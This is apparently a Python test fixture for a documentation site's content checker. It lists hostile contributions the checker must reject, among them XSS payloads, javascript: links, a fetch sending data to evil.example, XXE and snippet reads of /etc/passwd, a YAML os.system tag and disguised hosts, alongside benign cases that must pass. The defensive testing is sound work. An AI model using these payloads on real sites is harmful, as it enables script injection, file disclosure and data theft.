"""Hostile contributions: what would run in a reader's browser, on a maintainer's machine, or deceive either."""

from tests.scripts.checks.mistakes.spoil import append, swap

PAGE = "docs/what-is-nmt/index.md"
CLAIMS, REFERENCES, GLOSSARY, FLAGS, REASONS = (
    f"docs/data/{stem}.yml" for stem in ("claims", "references", "glossary", "red-flags", "contraindications")
)
DRAWING, NEW = "docs/figures/soreness.svg", "docs/figures/new.svg"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
UNSAFE, FOREIGN, DISGUISED = "unsafe-address", "foreign-request", "disguised-address"


def drawn(inside, before=""):
    """Replace the file by a drawing with `inside` on its second line."""
    return lambda _: f"{before}{SVG}\n{inside}\n</svg>\n"


def _page(text, rule, message, fix=""):
    return (PAGE, append(text), rule, message, fix)


def _drawing(inside, message, fix="", before=""):
    return (NEW, drawn(inside, before), "unsafe-drawing", message, fix)


def _field(path, field, value, rule, message, fix=""):
    return (
        path,
        swap(rf"^( +(?:- )?){field}: .*(?:\n {{6,}}.*)*", lambda found: f"{found[1]}{field}: {value}"),
        rule,
        message,
        fix,
    )


IN_PAGES = {
    "script": _page("<script>alert(1)</script>", "raw-html", "<script>", "Markdown"),
    "script that is not closed": _page("<script src=//evil.example/x.js\n>", "raw-html", "<script>"),
    "script in capitals with a slash": _page("<SCRIPT/SRC=//evil.example/x.js></SCRIPT>", "raw-html", "<script>"),
    "style": _page("<style>body { display: none }</style>", "raw-html", "<style>"),
    "frame": _page('<iframe srcdoc="<p>Hi"></iframe>', "raw-html", "<iframe>"),
    "object": _page('<object data="x.swf"></object>', "raw-html", "<object>"),
    "embedded thing": _page('<embed src="x.pdf">', "raw-html", "<embed>"),
    "form that asks for a password": _page(
        '<form action="https://evil.example"><input name=p></form>', "raw-html", "<form>"
    ),
    "base address": _page('<base href="https://evil.example/">', "raw-html", "<base>"),
    "meta that leads away": _page('<meta http-equiv="refresh" content="0;url=//evil.example">', "raw-html", "<meta>"),
    "stylesheet": _page('<link rel="stylesheet" href="https://evil.example/a.css">', "raw-html", "<link>"),
    "HTML that Markdown could say": _page("<section>Text</section>", "raw-html", "<section>"),
    "drawing in a page": _page("<svg><animate onbegin=alert(1) attributeName=x></svg>", "raw-html", "<svg>"),
    "formula with a link": _page('<math><mi xlink:href="data:text/html,x">y</mi></math>', "raw-html", "<math>"),
    "attributes for the whole page": _page("<body onload=alert(1)>", "raw-html", "<body>"),
    "tag in a tag": _page("<<script>script>alert(1)<</script>/script>", "raw-html", "<script>"),
    "element of nobody": _page("<x-login>a</x-login>", "raw-html", "<x-login>"),
    "escaped too little": _page("\\<script>alert(1)</script>", "raw-html", "<script>"),
    "closes the frame of the page": _page("</div></article>", "raw-html", "spills out", "close"),
    "never closed": _page("<div>\n\nText", "raw-html", "spills out", "close"),
    "HTML in a heading": _page("## Rest <iframe></iframe>", "raw-html", "<iframe>"),
    "HTML in a table": _page("| a | b |\n| - | - |\n| c | <iframe></iframe> |", "raw-html", "<iframe>"),
    "HTML in a box": _page('!!! action "Next"\n\n    - a\n    - <object></object>', "raw-html", "<object>"),
    "HTML in the title of a box": _page('!!! action "Go <embed src=x>"\n\n    a', "raw-html", "<embed>"),
    "HTML in a caption": _page("/// caption\nA <iframe></iframe>\n///", "raw-html", "<iframe>"),
    "HTML in a note": _page("Text[^1]\n\n[^1]: <iframe></iframe>", "raw-html", "<iframe>"),
    "HTML in a list": _page("1. a\n2. <style>a {}</style>", "raw-html", "<style>"),
    "HTML behind a comment that ends early": _page("<!--><iframe></iframe>-->", "raw-html", "<iframe>"),
    "event handler": _page('<span onmouseover="alert(1)">x</span>', "unsafe-attribute", "'onmouseover' runs code"),
    "event handler of an image": _page("<img src=x onerror=alert(1)>", "unsafe-attribute", "'onerror'"),
    "event handler in a list of attributes": _page(
        '## Rest { onclick="alert(1)" }', "unsafe-attribute", "'onclick'", "remove"
    ),
    "event handler on a word": _page("*rest*{ onfocus=alert(1) tabindex=0 }", "unsafe-attribute", "'onfocus'"),
    "event handler over two lines": _page("A paragraph\n{: onclick=alert(1) }", "unsafe-attribute", "'onclick'"),
    "style that covers the page": _page("*x*{ style='position:fixed;inset:0' }", "unsafe-attribute", "'style'"),
    "document in an attribute": _page("*x*{ srcdoc='<script>' }", "unsafe-attribute", "'srcdoc'"),
    "data for the theme": _page("*x*{ data-md-component=dialog }", "unsafe-attribute", "'data-md-component'"),
    "takes the place of the site's settings": _page(
        '{"base": "https://evil.example"}\n{: #__config }', "unsafe-attribute", "'__config'"
    ),
    "class that loads a script": _page("x\n{: .mermaid }", "unsafe-attribute", "'mermaid'"),
    "badge that no record gave": _page("*sure*{ .nmt-certainty--high }", "unsafe-attribute", "nmt-certainty--high"),
    "second class of a box": _page('!!! action md-dialog "Next"\n\n    a', "unsafe-attribute", "'md-dialog'"),
    "HTML in the title of an image": _page(
        '![The layers of a muscle and its skin](../figures/trigger-point.svg "<img src=x onerror=alert(1)>")',
        "unsafe-attribute",
        "holds HTML",
    ),
    "link that runs code": _page("[Book](javascript:alert(1))", UNSAFE, "'javascript:'", "https://"),
    "the same in odd capitals": _page("[Book](JaVaScRiPt:alert(1))", UNSAFE, "'javascript:'"),
    "the same with an entity": _page("[Book](java&#115;cript:alert(1))", UNSAFE, "'javascript:'"),
    "the same with a tab": _page("[Book](<\tjavascript:alert(1)>)", UNSAFE, "'javascript:'"),
    "the same with an entity for a tab": _page('<a href="java&Tab;script:alert(1)">x</a>', UNSAFE, "'javascript:'"),
    "the same as a named link": _page("[Book][b]\n\n[b]: javascript:alert(1)", UNSAFE, "'javascript:'"),
    "the same as a name that nothing uses": _page("[b]: vbscript:msgbox(1)", UNSAFE, "'vbscript:'"),
    "the same as a bare address": _page("<javascript:alert(1)>", UNSAFE, "'javascript:'"),
    "the same as an image": _page("![A muscle and the skin](javascript:alert(1))", UNSAFE, "'javascript:'"),
    "link to data": _page("[Book](data:text/html;base64,PHNjcmlwdD4=)", UNSAFE, "'data:'"),
    "image of data": _page("![A muscle and the skin](data:image/svg+xml,<svg>)", UNSAFE, "'data:'"),
    "link to a file of the reader": _page("[Book](file:///etc/passwd)", UNSAFE, "'file:'"),
    "another site's name before the real one": _page(
        "[NHS](https://www.nhs.uk@evil.example/)", DISGUISED, "leads to 'evil.example'", "https://"
    ),
    "name in foreign letters": _page("[NHS](https://www.nhѕ.uk/)", DISGUISED, "letters in its host name"),
    "name in foreign letters, encoded": _page("[NHS](https://www.xn--nh-hia.uk/)", DISGUISED, "letters in its host"),
    "site without saying so": _page("[NHS](//evil.example/)", DISGUISED, "without saying so"),
    "site behind backslashes": _page("[NHS](https:\\\\evil.example/)", DISGUISED, "without saying so"),
    "site of numbers": _page("[NHS](https://3232235777/)", DISGUISED, "no plain host"),
    "soft hyphen in an address": _page("[NHS](https://www.n&shy;hs.uk/)", DISGUISED, "host name"),
    "image on another site by name": _page(
        "![A muscle and the skin][m]\n\n[m]: https://evil.example/pixel.png", FOREIGN, "evil.example", "docs/figures/"
    ),
    "image on another site as HTML": _page('<img src="https://evil.example/a.gif" alt="a">', FOREIGN, "evil.example"),
    "snippet out of docs/": _page('--8<-- "../../../etc/passwd"', "snippet-path", "pulls in a file", "link"),
    "snippet in a fence": _page('```\n--8<-- "/etc/passwd"\n```', "snippet-path", "/etc/passwd"),
    "snippet from the network": _page('--8<-- "https://evil.example/a.md"', "snippet-path", "evil.example"),
    "include of another program": _page("{!../../mkdocs.yml!}", "snippet-path", "mkdocs.yml"),
    "template code": _page("{{ config.repo_url }}", "template-code", "config.repo_url", "backquotes"),
    "template command": _page('{% include "base.html" %}', "template-code", "include"),
    "turned text": _page("Call \u202e119\u202c now", "hidden-character", "U+202E", "type them again"),
    "turned text in code": _page("`a \u2066b\u2069`", "hidden-character", "U+2066"),
    "word with a zero-width space": _page("mas\u200bsage", "hidden-character", "'mas' and 'sage'"),
    "hidden sign as an entity": _page("mas&#8203;sage", "hidden-character", "U+200B"),
    "message in tags": _page("Hello\U000e0068\U000e0069", "hidden-character", "U+E0068"),
    "private sign": _page("x \ue000", "hidden-character", "U+E000"),
    "joiner between letters": _page("mas\u200dsage", "hidden-character", "U+200D"),
    "sign that rings": _page("a\x07b", "hidden-character", "U+0007"),
    "mixed alphabets": _page("A m\u0430ssage", "lookalike-letter", "cyrillic small letter a", "type the word"),
    "piled accents": _page("a\u0301\u0302\u0303\u0304", "lookalike-letter", "combining"),
    "drawing of 300 KB": (NEW, drawn(f"<!-- {'x' * 300_000} -->"), "file-size", "200 KB is the most", "smaller"),
}
IN_FIELDS = {
    "code in a title": (
        PAGE,
        swap("^title: .*", "title: <script>x</script>"),
        "markup-in-field",
        "HTML",
        "plain words",
    ),
    "title that ends early": (
        PAGE,
        swap("^description: .*", 'description: \'0;url=//evil.example" http-equiv="refresh" ' + "x" * 40 + "'"),
        "markup-in-field",
        "quotation mark",
        "curly",
    ),
    "code in a search term": (
        PAGE,
        swap(r"^search_terms: \[", "search_terms: ['<img src=x onerror=a>', "),
        "markup-in-field",
        "<img",
        "",
    ),
    "code in a reviewer's name": (
        PAGE,
        swap("^clinical_review: .*", "clinical_review: {name: '<b>A', credential: <i>MD, date: '2026-01-01'}"),
        "markup-in-field",
        "'credential'",
        "",
    ),
    "template code in a title": (PAGE, swap("^title: .*", "title: '{{ config }}'"), "markup-in-field", "template", ""),
    "tag in front matter": (PAGE, swap("^title: .*", "title: !ENV HOME"), "yaml", "tag", "plain words"),
    "program in front matter": (
        PAGE,
        swap("^title: .*", "title: !!python/object/apply:os.system [id]"),
        "yaml",
        "tag",
        "plain words",
    ),
    "alias in front matter": (
        PAGE,
        swap("^search_terms: .*", "search_terms: [&a x, *a]"),
        "yaml",
        "aliases",
        "plain words",
    ),
    "billion laughs in a register": (
        GLOSSARY,
        append("  - &a {id: x, see: [y, y]}\n  - &b [*a, *a]\n  - [*b, *b]"),
        "yaml",
        "aliases",
        "",
    ),
    "lists without end": (GLOSSARY, append("  - id: " + "[" * 20_000), "yaml", "", ""),
    "number without end": (GLOSSARY, append("  - id: " + "9" * 20_000), "yaml", "too long", ""),
    "two titles": (PAGE, swap("^title: (.*)", r"title: \1\ntitle: \1"), "yaml", "twice", ""),
    "code in a reference's title": _field(REFERENCES, "title", "<img src=x onerror=a>", "markup-in-field", "HTML"),
    "the same as entities": _field(REFERENCES, "title", "'&lt;script&gt;'", "markup-in-field", "HTML"),
    "TeX in a journal's name": _field(
        REFERENCES, "container-title", r"\input{/etc/passwd}", "markup-in-field", "TeX", "plain words"
    ),
    "code as a reference's address": _field(REFERENCES, "URL", "javascript:alert(1)", UNSAFE, "'URL'", "https://"),
    "the same with a tab in it": _field(REFERENCES, "URL", r'"java\tscript:alert(1)"', UNSAFE, "javascript"),
    "reference's address in disguise": _field(
        REFERENCES, "URL", "https://doi.org@evil.example/", DISGUISED, "evil.example"
    ),
    "code in a claim": _field(CLAIMS, "say", "A <b onclick=a()>word</b>.", "markup-in-field", "HTML"),
    "link in a claim": _field(CLAIMS, "why", "'See [this](https://a.example/).'", "markup-in-field", "Markdown link"),
    "code as a link in a claim": _field(CLAIMS, "why", "'[x](javascript:alert(1))'", UNSAFE, "javascript:"),
    "attributes in a term": _field(GLOSSARY, "short", "'A word {: onclick=a() }'", "markup-in-field", "attributes"),
    "code in a warning sign": _field(FLAGS, "sign", "<img src=x onerror=a>", "markup-in-field", "HTML"),
    "code in a reason": _field(REASONS, "question", "'<svg onload=a()>'", "markup-in-field", "HTML"),
    "hidden sign behind an escape": _field(GLOSSARY, "short", r'"Mus\u200Bcle."', "hidden-character", "'Mus' and 'cle"),
    "hidden sign in a register": (GLOSSARY, swap("^( +short: .)", "\\1\u2060"), "hidden-character", "U+2060", ""),
}
IN_DRAWINGS = {
    "script in a drawing": _drawing("<script>alert(1)</script>", "<script>", "shapes and text"),
    "page in a drawing": _drawing("<foreignObject><p/></foreignObject>", "<foreignObject>"),
    "event handler in a drawing": _drawing('<g onclick="alert(1)"/>', "'onclick' runs code"),
    "link in a drawing": _drawing('<a href="https://evil.example"><path d="M0 0"/></a>', "<a>"),
    "image in a drawing": _drawing('<image href="https://evil.example/a.png"/>', "leads out"),
    "use of another file": _drawing('<use href="https://evil.example/a.svg#b"/>', "leads out"),
    "use of another file, old way": _drawing('<use xlink:href="other.svg#b"/>', "leads out"),
    "use of code": _drawing('<use href="data:image/svg+xml,x#b"/>', "leads out"),
    "movement that sets a link": _drawing('<animate attributeName="href" values="javascript:a()"/>', "<animate>"),
    "set that sets a link": _drawing('<set attributeName="href" to="javascript:a()"/>', "<set>"),
    "paint from elsewhere": _drawing('<path fill="url(https://evil.example/a.svg#b)"/>', "evil.example"),
    "style from elsewhere": _drawing("<style>@import '//evil.example/a.css';</style>", "stylesheet"),
    "the same behind an escape": _drawing("<style>@\\69mport '//evil.example/a.css';</style>", "stylesheet"),
    "font from elsewhere": _drawing("<style>@font-face{src:url( //evil.example/f)}</style>", "evil.example"),
    "paint behind an escape": _drawing("<style>.a{fill:u\\72l(https://evil.example/x)}</style>", "evil.example"),
    "style attribute from elsewhere": _drawing('<g style="background:url(//evil.example)"/>', "evil.example"),
    "declaration of entities": _drawing(
        "<text>&a;</text>", "<!DOCTYPE>", "delete", before='<!DOCTYPE svg [<!ENTITY a "x">]>\n'
    ),
    "file as an entity": _drawing(
        "<text>&a;</text>", "<!DOCTYPE>", "", before='<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>\n'
    ),
    "stylesheet for the drawing": _drawing(
        "<g/>", "<?xml-stylesheet?>", "", before='<?xml-stylesheet href="//evil.example/a.css"?>\n'
    ),
    "page disguised by a prefix": _drawing('<h:script xmlns:h="http://www.w3.org/1999/xhtml"/>', "<h:script>"),
    "drawing that is not closed": _drawing("<g>", "not well formed", "save it again"),
    "drawing that says another encoding": _drawing(
        "<g/>", "utf-7", "UTF-8", before='<?xml version="1.0" encoding="utf-7"?>\n'
    ),
    "hidden sign in a drawing": (DRAWING, swap("<title>", "<title>\u202e"), "hidden-character", "U+202E", ""),
}
IN_ASSETS = {
    "stylesheet that pulls in another": (
        "docs/assets/content.css",
        append('@import "https://evil.example/a.css";'),
        FOREIGN,
        "another stylesheet",
        "this file",
    ),
    "background that counts readers": (
        "docs/assets/content.css",
        append(".a { background: url(\n  '//evil.example/pixel') }"),
        FOREIGN,
        "evil.example",
        "docs/assets/",
    ),
    "the same behind comments and escapes": (
        "docs/assets/site.css",
        append(".a { background: /* x */ \\75 rl(https://evil.example) }"),
        FOREIGN,
        "evil.example",
        "",
    ),
    "script that sends": ("docs/assets/terms.js", append('fetch("https://evil.example/" + x);'), FOREIGN, "evil", ""),
    "script in a folder of pages": ("docs/tools/a.js", lambda _: "alert(1)\n", "file-kind", "'.js'", "delete it"),
    "Python in docs/": ("docs/data/hook.py", lambda _: "import os\n", "file-kind", "'.py'", "delete it"),
    "page that skips Markdown": ("docs/tools/a.html", lambda _: "<p>\n", "file-kind", "'.html'", ".md"),
    "hidden file": ("docs/data/.htaccess", lambda _: "x\n", "risky-name", ".htaccess", "letters"),
    "name with a blank": (
        "docs/figures/neck pain.svg",
        drawn("<g/>"),
        "risky-name",
        "'neck pain.svg'",
        "hyphens",
    ),
    "name that Windows can't store": ("docs/figures/aux.svg", drawn("<g/>"), "risky-name", "aux.svg", ""),
    "name that differs in a capital": (
        "docs/figures/Soreness.svg",
        drawn("<g/>"),
        "risky-name",
        "capital",
        "another",
    ),
    "text that is none": ("docs/data/a.json", lambda _: "\0\0\0\n", "file-kind", "not text", "delete"),
}
MISTAKES = IN_PAGES | IN_FIELDS | IN_DRAWINGS | IN_ASSETS


def _legal(text, path=PAGE):
    return (path, append(text))


LEGAL = {
    "a page that shows a script": _legal("Never paste `<script>` or `onclick=` into a page."),
    "a page that speaks of JavaScript": _legal(
        "The word javascript: it runs code. So does JavaScript, says data: text."
    ),
    "a fence that shows HTML": _legal('```html\n<iframe src="https://a.example" onload="x()"></iframe>\n```'),
    "an indented block that shows HTML": _legal("Like this:\n\n    <script>alert(1)</script>"),
    "a fence that shows a dangerous link": _legal("```\n[x](javascript:alert(1))\n[y]: data:text/html,x\n```"),
    "a code span that shows a dangerous link": _legal("`[x](javascript:alert(1))` and `<javascript:x>`"),
    "text about addresses": _legal("An address may start with `data:` or `file:`. See the section javascript: below."),
    "text written as HTML entities": _legal("Write `&lt;`: it shows &lt;script&gt; and &amp; as they are."),
    "less and more": _legal("A score < 5, x<5 or 3 > 2 is small."),
    "signs below and above": _legal("H<sub>2</sub>O, 10<sup>2</sup>, press <kbd>Tab</kbd>.<br>Next."),
    "an abbreviation with its meaning": _legal(
        'The health organization (<abbr title="World Health Organization">WHO</abbr>).'
    ),
    "a word in another language": _legal('<span lang="es">masaje</span>'),
    "a comment": _legal("<!-- ask a clinician about <b>this</b> -->"),
    "a comment over lines": _legal("<!-- first\nsecond <script>\nthird -->"),
    "a heading with a name": _legal("## Rest {#rest-and-more}\n\nText."),
    "a block with a name": _legal("Text to link to.\n{: #a-place }"),
    "a link with a title": _legal('[NHS](https://www.nhs.uk/ "The NHS: a < b")'),
    "a link with all that an address may hold": _legal(
        "[x](https://www.example.org:8080/a_(b)/c-d/?q=1&r=%20a@b#e:f) and [y](http://example.com)"
    ),
    "an address with an at-sign in its path": _legal("[x](https://www.example.org/@someone/data:1)"),
    "mail and telephone": _legal("[Write](mailto:hello@example.org), [call](tel:911), <a@b.org>"),
    "a link to another place of the page": _legal("[Up](#references)"),
    "an address as a named link": _legal("[NHS][nhs]\n\n[nhs]: https://www.nhs.uk/ 'The NHS'"),
    "a table with columns set right and in the middle": _legal("| a | b |\n| --: | :-: |\n| c | d |"),
    "a list that starts at 3": _legal("3. a\n4. b"),
    "a fence in a language": _legal("```yaml\ntitle: x\n```"),
    "code that is colored": _legal('```python\nprint("<b>")\n```'),
    "a snippet in a sentence": _legal('A line such as `--8<-- "a.md"` pulls in a file; we do not use it.'),
    "dashes and an eight": _legal("--8 people took part-- said the report.\n\n---"),
    "template code in a code span": _legal("`{{ config.site_name }}` and `{% if %}`"),
    "template code in a fence": _legal("```\n{{ a }}\n{% b %}\n```"),
    "curly brackets": _legal("The set {a, b} has 2 parts; {c} has 1."),
    "accents and other letters": _legal("Café, naïve, Lønning, Järvinen, Dvořák, São Paulo, Ångström, ﬁne."),
    "Greek letters in science": _legal("β-endorphin, 5 μg, p = 0.05, α and Δx, 10 µm."),
    "a word in Cyrillic": _legal("The Russian word массаж means massage."),
    "an emoji": _legal("Well done 👍🏽, ❤️, ☎︎ and 👩‍⚕️."),
    "a hyphen that does not break": _legal("a non\u2011breaking hyphen"),
    "accents that are joined": _legal("Cafe\u0301 and n\u0303"),
    "entities for spaces and dashes": _legal("5&nbsp;mg &ndash; 6&nbsp;mg &copy;"),
    "curly quotation marks in a title": (PAGE, swap("^title: .*", "title: What “NMT” is & isn't (1 < 2)")),
    "an e-mail and a path in a field": (
        PAGE,
        swap(r"^search_terms: \[", "search_terms: [a@b.org, 'data: what is it', "),
    ),
    "less, more and brackets in a reference": (
        REFERENCES,
        swap(
            "^( +(?:- )?)title: .*(?:\\n {6,}.*)*",
            r"\1title: 'Pain (<30 people) [in German] & p<0.05: a 5* study_of it'",
        ),
    ),
    "an address with brackets": (
        REFERENCES,
        swap("^( +)URL: .*", r"\1URL: 'https://www.example.org/a_(b)?c=1&d=[e]#f'"),
    ),
    "a number in brackets in a claim": (
        CLAIMS,
        swap("^( +)say: .*(?:\\n {6,}.*)*", r"\1say: 'About 1 in 10 (95% CI <1 to 2) * felt sore: {see why}.'"),
    ),
    "a drawing that uses itself": (
        DRAWING,
        swap(
            "</svg>",
            '<defs><linearGradient id="nmt-g"><stop offset="0"/></linearGradient><path id="nmt-p" d="M0 0h1"/></defs>'
            '<use href="#nmt-p" fill="url(#nmt-g)" style="opacity: .5"/></svg>',
        ),
    ),
    "a drawing with entities and a comment": (
        DRAWING,
        swap("</svg>", "<!-- <script> --><text>a &amp; b &lt;c&gt; &#233;</text></svg>"),
    ),
    "a drawing with a title that names code": (DRAWING, swap("<title>", "<title>JavaScript: onclick url(x) ")),
    "a style that depends on the colors": (
        DRAWING,
        swap("</style>", "@media (prefers-color-scheme:dark){.nmt-z{fill:var(--ink)}}</style>"),
    ),
    "a style with a font and a local picture": (
        "docs/assets/content.css",
        append(".nmt-z { scroll-behavior: auto; background: url(../figures/soreness.svg); content: '\\201c' }"),
    ),
    "a comment with an address in a style": (
        "docs/assets/content.css",
        append("/* see https://www.w3.org/TR/css/ and url(https://a.example) */"),
    ),
    "a comment with an address in a script": (
        "docs/assets/terms.js",
        append("// see https://developer.mozilla.org/ for more"),
    ),
    "the name of a format in a script": (
        "docs/assets/terms.js",
        append('const nmtSvg = "http://www.w3.org/2000/svg";'),
    ),
}
